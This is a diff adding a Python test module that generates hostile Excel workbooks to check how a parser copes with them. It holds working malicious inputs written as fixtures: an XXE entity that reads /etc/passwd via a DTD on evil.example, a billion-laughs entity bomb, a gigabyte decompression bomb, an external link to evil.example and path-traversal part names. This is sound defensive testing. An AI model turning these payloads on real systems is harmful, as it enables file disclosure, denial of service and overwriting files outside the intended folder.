@@ -1,0 +1,150 @@
+"""Hostile workbooks."""
+
+from pathlib import Path
+
+from case import LOG, case
+from workbook import DATA, HEAD, row, workbook
+
+XLSX = f"{LOG} log.xlsx"
+_LAST = "1048576"
+
+
+@case(XLSX)
+def sheet_that_claims_all_cells(folder: Path, many: int) -> None:
+    """A sheet that says that it goes to the last cell that Excel has, and does not."""
+    workbook(folder / "log.xlsx", dimension=f"A1:XFD{_LAST}")
+
+
+@case(XLSX)
+def cell_far_out(folder: Path, many: int) -> None:
+    """One cell in the last column of the last row, in single quotes: room for 17 billion cells."""
+    workbook(folder / "log.xlsx", HEAD + DATA + f"<row r='{_LAST}'><c\nr='XFD{_LAST}'><v>1</v></c></row>")
+
+
+@case(XLSX)
+def cell_beyond_all_sheets(folder: Path, many: int) -> None:
+    """A cell in a row and a column of more digits and letters than there are."""
+    workbook(folder / "log.xlsx", HEAD + DATA + '<row r="4294967295"><c r="ZZZZZZ99999999999"><v>1</v></c></row>')
+
+
+@case(XLSX)
+def cells_without_places(folder: Path, many: int) -> None:
+    """16,000 cells in a row that do not say where they stand, and a row far below."""
+    workbook(folder / "log.xlsx", HEAD + f"<row>{'<c/>' * 16_000}</row><row r='{_LAST}'><c><v>1</v></c></row>")
+
+
+@case(XLSX)
+def sheet_under_another_name(folder: Path, many: int) -> None:
+    """A cell far out in a part that is named like a picture."""
+    rels = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="media/a.png"/>'
+        "</Relationships>"
+    )
+    far = f'<worksheet><sheetData><row r="1"><c r="A1"/><c r="XFD{_LAST}"><v>1</v></c></row></sheetData></worksheet>'
+    workbook(folder / "log.xlsx", more={"xl/_rels/workbook.xml.rels": rels, "xl/media/a.png": far})
+
+
+@case(XLSX)
+def blank_rows_to_the_end(folder: Path, many: int) -> None:
+    """60,000 rows of cells without anything in them."""
+    rows = (f'<row r="{n}"><c r="A{n}"/><c r="I{n}"/></row>' for n in range(3, 60_000))
+    workbook(folder / "log.xlsx", (HEAD, DATA, *rows))
+
+
+@case(XLSX)
+def string_shared_by_all_cells(folder: Path, many: int) -> None:
+    """One string of a megabyte that 20,000 cells share: 20 GB."""
+    cells = (f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(2, 20_000))
+    workbook(folder / "log.xlsx", (HEAD, *cells), strings=("<si><t>", "a" * 1_000_000, "</t></si>"))
+
+
+@case(XLSX)
+def string_that_is_not_there(folder: Path, many: int) -> None:
+    """A cell with the number of a shared string that there is not."""
+    workbook(folder / "log.xlsx", HEAD + '<row r="2"><c r="A2" t="s"><v>99999999</v></c></row>', strings=())
+
+
+@case(XLSX, huge=True)
+def part_that_unpacks_to_gigabytes(folder: Path, many: int) -> None:
+    """A part of blanks that is small and unpacks to more than a gigabyte, as its directory says."""
+    workbook(folder / "log.xlsx", more={"xl/media/a.bin": bytes(1_080_000_000)})
+
+
+@case(XLSX)
+def entities_of_entities(folder: Path, many: int) -> None:
+    """A document type whose entities expand to billions."""
+    told = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
+    workbook(folder / "log.xlsx", HEAD + row(2, "&e9;", "fiscal"), before=f'<!DOCTYPE a [<!ENTITY e0 "lol">{told}]>')
+
+
+@case(XLSX)
+def entity_from_outside(folder: Path, many: int) -> None:
+    """An entity that stands for a file of this machine, in a document type that stands on another."""
+    workbook(
+        folder / "log.xlsx",
+        HEAD + row(2, "&x;", "fiscal"),
+        before='<!DOCTYPE a SYSTEM "http://evil.example/a.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+    )
+
+
+@case(XLSX)
+def links_to_another_workbook(folder: Path, many: int) -> None:
+    """Cells that are formulas over another machine's workbook: what was saved with them is read, nothing is fetched."""
+    cell = '<c r="A2" t="str"><f>[1]Sheet1!A1</f><v>2017-09-04</v></c>'
+    rels = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+        'Type="x" Target="http://evil.example/x.xlsx" TargetMode="External"/></Relationships>'
+    )
+    workbook(
+        folder / "log.xlsx",
+        HEAD + row(2, "x", "fiscal", "2017-07").replace('<c r="A2" t="inlineStr"><is><t>x</t></is></c>', cell),
+        more={"xl/externalLinks/externalLink1.xml": "<x/>", "xl/externalLinks/_rels/externalLink1.xml.rels": rels},
+    )
+
+
+@case(XLSX)
+def formulas_without_values(folder: Path, many: int) -> None:
+    """Formulas that nobody has computed, and such as came to an error."""
+    cells = '<c r="A2"><f>TODAY()</f></c><c r="B2" t="e"><f>1/0</f><v>#DIV/0!</v></c><c r="C2"><f>NOW()</f><v>x</v></c>'
+    workbook(folder / "log.xlsx", HEAD + f'<row r="2">{cells}</row>' + DATA.replace('r="2"', 'r="3"'))
+
+
+@case(XLSX)
+def numbers_beyond_numbers(folder: Path, many: int) -> None:
+    """NaN, infinity, and days that no calendar has, where dates should be."""
+    cells = [f'<row r="{n}"><c r="A{n}"><v>{v}</v></c><c r="B{n}"><v>{v}</v></c></row>' for n, v in
+             enumerate(["NaN", "1e308", "-1e999", "99999999999", "-5"], start=2)]  # fmt: skip
+    workbook(folder / "log.xlsx", (HEAD, *cells))
+
+
+@case(XLSX)
+def elements_nested_deeply(folder: Path, many: int) -> None:
+    """100,000 elements, each in the one before."""
+    workbook(folder / "log.xlsx", HEAD + "<a>" * 100_000)
+
+
+@case(XLSX)
+def merged_over_and_over(folder: Path, many: int) -> None:
+    """10,000 merged cells over the same rows, and such as end before they begin."""
+    rows = "".join(row(n, "2017-09-04", "fiscal", "2017-07") for n in range(2, 3000))
+    merged = f'<mergeCell ref="B2:B{_LAST}"/>' * 10_000 + '<mergeCell ref="XFD1048576:A1"/>'
+    workbook(folder / "log.xlsx", HEAD + rows, after=f"<mergeCells>{merged}</mergeCells>")
+
+
+@case(XLSX)
+def parts_with_names_outside(folder: Path, many: int) -> None:
+    """Parts whose names lead out of the folder."""
+    workbook(folder / "log.xlsx", more={"../../evil": "x", "/tmp/evil": "x", "xl\\..\\..\\evil": "x"})  # noqa: S108
+
+
+@case(XLSX)
+def archive_of_nothing(folder: Path, many: int) -> None:
+    """The first bytes of an archive, and zeros."""
+    (folder / "log.xlsx").write_bytes(b"PK\x03\x04" + bytes(1000))
+
+
+@case(f"{LOG} log.xls")
+def old_workbook_of_noise(folder: Path, many: int) -> None:
+    """The first bytes of an old workbook, and noise."""
+    (folder / "log.xls").write_bytes(bytes.fromhex("D0CF11E0A1B11AE1") + b"\xff" * 5000)
